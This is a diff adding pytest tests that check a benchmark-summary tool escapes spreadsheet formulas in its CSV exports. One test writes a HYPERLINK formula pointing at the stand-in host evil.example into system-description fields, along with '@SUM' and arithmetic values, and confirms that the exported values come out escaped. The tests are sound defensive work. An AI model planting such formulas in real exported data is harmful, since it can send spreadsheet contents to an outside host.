@@ -280,3 +280,51 @@ def test_a_tree_of_too_many_entries_is_refused_in_one_line(tmp_path, monkeypatch
         (tmp_path / f"f{i}").write_text("x")
     with pytest.raises(MlpaceError, match="more than 10 files and folders"):
         SafeTree(tmp_path).files(tmp_path)
+
+
+# --- exported tables ------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def _formula_cells(text: str) -> list[str]:
+    import csv
+    import io
+    from mlpace.io import FORMULA_STARTS
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert cells, "no CSV written"
+
+    def number(cell):
+        try:
+            return float(cell) is not None
+        except ValueError:
+            return False
+    return [c for c in cells if c.startswith(FORMULA_STARTS) and c not in FORMULA_STARTS and not number(c)]
+
+
+def test_names_from_a_tree_never_reach_a_spreadsheet_as_formulas(tmp_path, capsys):
+    """A system description is the submitter's text: exported as it was, `=HYPERLINK(...)` ran
+    in the spreadsheet of whoever opened the CSV (and could send the sheet's data away)."""
+    org = tmp_path / "tree" / "Intel"
+    shutil.copytree(INTEL, org)
+    description = org / "systems" / f"{SYSTEM}.json"
+    data = json.loads(description.read_text())
+    data.update(system_name=FORMULA, submitter="@SUM(1+1)", host_processor_model_name="-2+3",
+                accelerator_model_name=FORMULA)
+    description.write_text(json.dumps(data))
+    code, _, err = run(capsys, ["summarize", org.parent, "--csv", tmp_path / "summary.csv"])
+    assert code == 0, err
+    text = (tmp_path / "summary.csv").read_text()
+    assert "'" + FORMULA.replace('"', '""') in text and _formula_cells(text) == []
+    db = tmp_path / "store.sqlite"
+    assert run(capsys, ["import", org.parent, "--db", db])[0] == 0
+    code, out, err = run(capsys, ["results", "--db", db, "--format", "csv"])
+    assert code == 0, err
+    assert "'" + FORMULA.replace('"', '""') in out and _formula_cells(out) == []
+
+
+def test_numbers_and_plain_text_are_exported_unchanged():
+    from mlpace.io import csv_text
+    text = csv_text(["a", "b", "c", "d"], [{"a": -1.5, "b": "-3", "c": "-", "d": None},
+                                           {"a": "+7", "b": "Intel", "c": "a=b", "d": "-1+2"}])
+    assert text == "a,b,c,d\n-1.5,-3,-,\n+7,Intel,a=b,'-1+2\n"
